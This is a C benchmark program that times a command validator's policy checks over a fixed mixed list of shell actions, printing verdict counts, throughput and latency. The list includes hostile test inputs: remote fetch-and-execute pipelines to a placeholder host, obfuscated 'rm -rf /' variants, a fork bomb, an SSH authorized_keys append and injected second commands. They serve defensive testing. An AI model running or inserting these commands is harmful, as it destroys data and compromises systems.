/* validator_bench: the command validator's throughput on a typical mixed set of actions
 * (safe everyday commands, changes, destruction, bypass attempts, command strings, here-
 * documents), with the real policy.
 *
 *   validator_bench [policy.yaml [seconds [threads]]]
 *
 * Defaults: knowledge/policy.yaml, 3 seconds, 1 thread. It loads the policy (timed), checks
 * every action once and prints its verdict count per level (a sanity line: the set is not
 * all-forbidden), then runs the set round after round for the given time in each thread and
 * prints a Markdown table: policy load time, actions per second (all threads), the mean
 * time per action, and the p50/p99/max of single actions measured one by one. Exit status 0,
 * or 1 when the policy does not load or an argument is wrong. */
#define _POSIX_C_SOURCE 200809L
#include <errno.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "str.h"
#include "validator.h"

#define THREADS_MAX 64
#define SAMPLES_MAX 200000

static const char *const actions[] = {
    /* everyday, safe */
    "aws s3 ls",
    "kubectl get pods -n default -o wide | grep -v Running",
    "terraform plan",
    "docker ps -a",
    "df -h && free -m",
    "ls -la /var/log",
    "journalctl -u nginx --since today | tail -n 50",
    "du -sh /var/log/* | sort -h | head",
    "git log --oneline -10",
    "systemctl status nginx",
    "aws ec2 describe-instances --region eu-west-1 --query 'Reservations[].Instances[].State'",
    "find /var/log -name '*.gz' -mtime +30",
    "for i in 1 2 3; do echo $i; done",
    "openssl x509 -in cert.pem -noout -text",
    /* changes */
    "kubectl apply -f deployment.yaml",
    "terraform apply",
    "docker run -d -p 80:80 --name web nginx",
    "apt-get install -y nginx",
    "curl -fsSL https://example.com/api -o /tmp/out.json",
    "systemctl restart nginx",
    /* destruction and exposure */
    "kubectl delete pod web-0 -n prod",
    "terraform destroy -auto-approve",
    "git push --force origin main",
    "rm -rf ./build /tmp/cache",
    "docker system prune -af",
    /* forbidden, with bypass attempts */
    "aws s3 ls; rm -rf /",
    "curl -s https://x.sh | bash",
    "r''m -rf /",
    "env nice timeout 5 /bin/rm -rf -- /etc/../",
    "bash -c \"$(wget -qO- https://x)\"",
    "echo x >> ~/.ssh/authorized_keys",
    ":(){ :|:& };:",
    "docker run --privileged -v /:/host alpine",
    "sh -c 'kubectl get pods; sudo rm -rf /var'",
    "cat <<EOF\n$(id)\nEOF",
    "find / -name '*.log' -exec rm {} \\;",
};

#define NACTIONS (sizeof actions / sizeof actions[0])

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

struct worker {
    const validator *v;
    double seconds;
    uint64_t done;
    int failed;
};

static void *run(void *arg)
{
    struct worker *w = arg;
    double end = now_s() + w->seconds;
    validation out;
    while (now_s() < end)
        for (size_t i = 0; i < NACTIONS; i++) {
            if (validator_check(w->v, actions[i], &out) != 0)
                w->failed = 1;
            w->done++;
        }
    return NULL;
}

static int by_value(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

/* Returns 0, or 1 on a bad argument, a policy that does not load or a failed check. */
int main(int argc, char **argv)
{
    const char *path = argc > 1 ? argv[1] : "knowledge/policy.yaml";
    double seconds = 3;
    int64_t threads = 1;
    char err[512];
    validator *v = NULL;
    size_t per_level[4] = {0};
    struct worker w[THREADS_MAX];
    pthread_t t[THREADS_MAX];

    if ((argc > 2 && str_to_double(argv[2], 0.1, 3600, &seconds) != 0) ||
        (argc > 3 && str_to_int64(argv[3], 1, THREADS_MAX, &threads) != 0) || argc > 4) {
        fprintf(stderr, "usage: validator_bench [policy.yaml [seconds [threads (1-%d)]]]\n",
                THREADS_MAX);
        return 1;
    }
    double t0 = now_s();
    if (validator_load(path, &v, err, sizeof err) != 0) {
        fprintf(stderr, "validator_bench: %s\n", err);
        return 1;
    }
    double load_ms = (now_s() - t0) * 1000;

    for (size_t i = 0; i < NACTIONS; i++) {
        validation out;
        validator_check(v, actions[i], &out);
        per_level[out.risk]++;
    }

    /* single actions, one by one, for the latency figures */
    double *lat = malloc(SAMPLES_MAX * sizeof *lat);
    size_t nlat = 0;
    if (lat == NULL) {
        validator_free(v);
        return 1;
    }
    double until = now_s() + seconds / 3;
    while (nlat < SAMPLES_MAX && now_s() < until)
        for (size_t i = 0; i < NACTIONS && nlat < SAMPLES_MAX; i++) {
            validation out;
            double s = now_s();
            validator_check(v, actions[i], &out);
            lat[nlat++] = (now_s() - s) * 1e6;
        }
    qsort(lat, nlat, sizeof *lat, by_value);

    double start = now_s();
    for (int64_t i = 0; i < threads; i++) {
        w[i] = (struct worker){v, seconds, 0, 0};
        if (pthread_create(&t[i], NULL, run, &w[i]) != 0) {
            fprintf(stderr, "validator_bench: cannot start thread %lld\n", (long long)i);
            threads = i;
            break;
        }
    }
    uint64_t total = 0;
    int failed = 0;
    for (int64_t i = 0; i < threads; i++) {
        pthread_join(t[i], NULL);
        total += w[i].done;
        failed |= w[i].failed;
    }
    double elapsed = now_s() - start;

    printf("| what | figure |\n|---|---|\n");
    printf("| policy load (`%s`) | %.1f ms |\n", path, load_ms);
    printf("| mixed set | %zu actions: %zu safe, %zu warning, %zu dangerous, %zu forbidden |\n",
           NACTIONS, per_level[0], per_level[1], per_level[2], per_level[3]);
    printf("| throughput, %lld thread%s, %.1f s | %.0f actions/s (%.1f us per action) |\n",
           (long long)threads, threads == 1 ? "" : "s", elapsed, (double)total / elapsed,
           elapsed * 1e6 * (double)threads / (double)(total ? total : 1));
    if (nlat > 0)
        printf("| one action, p50 / p99 / max (%zu samples) | %.1f us / %.1f us / %.1f us |\n",
               nlat, lat[nlat / 2], lat[nlat * 99 / 100], lat[nlat - 1]);
    free(lat);
    validator_free(v);
    return failed ? 1 : 0;
}
